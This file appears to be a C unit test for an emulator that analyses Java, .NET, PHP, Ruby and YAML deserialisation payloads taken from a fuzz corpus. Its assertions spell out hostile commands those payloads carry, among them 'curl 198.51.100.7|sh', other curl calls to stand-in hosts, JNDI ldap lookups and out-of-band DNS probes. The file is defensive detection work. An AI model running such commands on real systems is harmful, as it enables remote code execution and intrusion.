/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What serialised objects do when they are read. Streams of Java were written by Java, of Ruby by Ruby, of PHP by PHP. */
#include "emu/serial/serial.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static struct serial_result result;

static void evaluate(enum language format, struct bytes object)
{
	void *room = malloc(serial_room());

	assert_non_null(room);
	serial_evaluate(format, object, room, &result);
	free(room);
}

/* An input of the fuzz target of the same name, without the byte that says its format. */
static void evaluate_file(enum language format, const char *name)
{
	static uint8_t bytes[16384];
	char path[512];
	FILE *file;
	size_t len;

	snprintf(path, sizeof(path), SOURCE_ROOT "/tests/fuzz/corpus/serial/%s", name);
	file = fopen(path, "rb");
	assert_non_null(file);
	len = fread(bytes, 1, sizeof(bytes), file);
	fclose(file);
	assert_true(len > 1);
	evaluate(format, bytes_of(bytes + 1, len - 1));
}

static void assert_does(enum serial_kind kind, enum language language, const char *text)
{
	for (unsigned i = 0; i < result.effects_count; i++)
		if (result.effects[i].kind == kind && (kind != SERIAL_CODE || result.effects[i].language == language) &&
		    bytes_equal(result.effects[i].text, bytes_text(text)))
			return;
	fail_msg("nothing does %s; %u others, the first %.*s", text, result.effects_count,
	         result.effects_count > 0 ? (int)result.effects[0].text.left : 0, (const char *)result.memory);
}

static void a_url_in_a_map_of_java_resolves_its_host(void **state)
{
	evaluate_file(LANGUAGE_JAVA_OBJECT, "java-urldns");
	assert_does(SERIAL_DNS, LANGUAGE_AUTO, "abc.oob.example.com");
}

static void calls_by_name_in_java_objects_start_programs(void **state)
{
	evaluate_file(LANGUAGE_JAVA_OBJECT, "java-chain");
	assert_does(SERIAL_CODE, LANGUAGE_SHELL, "curl http://198.51.100.7/j");
	assert_does(SERIAL_CODE, LANGUAGE_SHELL, "/bin/sh -c 'id; ping -c1 198.51.100.8'");
}

static void a_class_given_as_bytes_runs_its_code(void **state)
{
	evaluate_file(LANGUAGE_JAVA_OBJECT, "java-bytes");
	assert_does(SERIAL_CODE, LANGUAGE_SHELL, "touch /tmp/pwned");
	assert_does(SERIAL_CODE, LANGUAGE_SHELL, "sh -c 'curl 198.51.100.7|sh'");
	assert_does(SERIAL_CODE, LANGUAGE_SHELL, "id -u");
	assert_does(SERIAL_DNS, LANGUAGE_AUTO, "z.oob.example");
}

static void look_ups_and_remote_references_contact_their_hosts(void **state)
{
	evaluate_file(LANGUAGE_JAVA_OBJECT, "java-jndi");
	assert_does(SERIAL_JNDI, LANGUAGE_AUTO, "ldap://198.51.100.9:1389/x");
	evaluate_file(LANGUAGE_JAVA_OBJECT, "java-remote");
	assert_does(SERIAL_CONNECT, LANGUAGE_AUTO, "198.51.100.7:1234");
	evaluate_file(LANGUAGE_YAML, "yaml-java");
	assert_does(SERIAL_FETCH, LANGUAGE_AUTO, "http://198.51.100.7:8000/");
	evaluate_file(LANGUAGE_JAVA_OBJECT, "json-dns");
	assert_does(SERIAL_DNS, LANGUAGE_AUTO, "abc.oob.example.com");
}

static void markup_starts_programs(void **state)
{
	evaluate_file(LANGUAGE_JAVA_OBJECT, "xml-decoder");
	assert_does(SERIAL_CODE, LANGUAGE_SHELL, "/bin/sh -c 'id > /tmp/a; curl http://198.51.100.7/'");
	evaluate_file(LANGUAGE_DOTNET_OBJECT, "xaml");
	assert_does(SERIAL_CODE, LANGUAGE_CMD, "cmd /c ping \"198.51.100.7\"");
	evaluate_file(LANGUAGE_DOTNET_OBJECT, "json-net");
	assert_true(result.effects_count == 1 && result.effects[0].language == LANGUAGE_CMD);
	evaluate_file(LANGUAGE_DOTNET_OBJECT, "net-delegate");
	assert_does(SERIAL_CODE, LANGUAGE_CMD, "cmd /c ping 198.51.100.7");
}

static void texts_of_an_applications_objects_may_be_run(void **state)
{
	evaluate(LANGUAGE_PHP_OBJECT, bytes_text("O:4:\"Test\":2:{s:3:\"cmd\";s:2:\"id\";s:1:\"n\";i:5;}"));
	assert_true(result.read);
	assert_does(SERIAL_CODE, LANGUAGE_SHELL, "id");
	assert_true(result.effects[0].guessed);
	assert_string_equal(result.effects[0].class_name, "Test");
	evaluate_file(LANGUAGE_PHP_OBJECT, "php-soap");
	assert_does(SERIAL_FETCH, LANGUAGE_AUTO, "http://198.51.100.3:81/a");
	evaluate_file(LANGUAGE_RUBY_OBJECT, "marshal-objects");
	assert_does(SERIAL_CODE, LANGUAGE_SHELL, "id;curl http://198.51.100.7/r");
}

static void data_alone_does_nothing(void **state)
{
	evaluate(LANGUAGE_PHP_OBJECT, bytes_text("a:1:{i:0;O:8:\"stdClass\":1:{s:1:\"a\";s:2:\"id\";}}"));
	assert_true(result.read);
	assert_int_equal(result.effects_count, 0);
	evaluate(LANGUAGE_PHP_OBJECT, bytes_text("O:1:\"A\":1:{s:1:\"a\";s:9:\"id\";}"));
	assert_false(result.read);
	evaluate(LANGUAGE_RUBY_OBJECT, bytes_text("\x04\x08[\x07i\x06i\x07"));
	assert_int_equal(result.effects_count, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_url_in_a_map_of_java_resolves_its_host),
		cmocka_unit_test(calls_by_name_in_java_objects_start_programs),
		cmocka_unit_test(a_class_given_as_bytes_runs_its_code),
		cmocka_unit_test(look_ups_and_remote_references_contact_their_hosts),
		cmocka_unit_test(markup_starts_programs),
		cmocka_unit_test(texts_of_an_applications_objects_may_be_run),
		cmocka_unit_test(data_alone_does_nothing),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
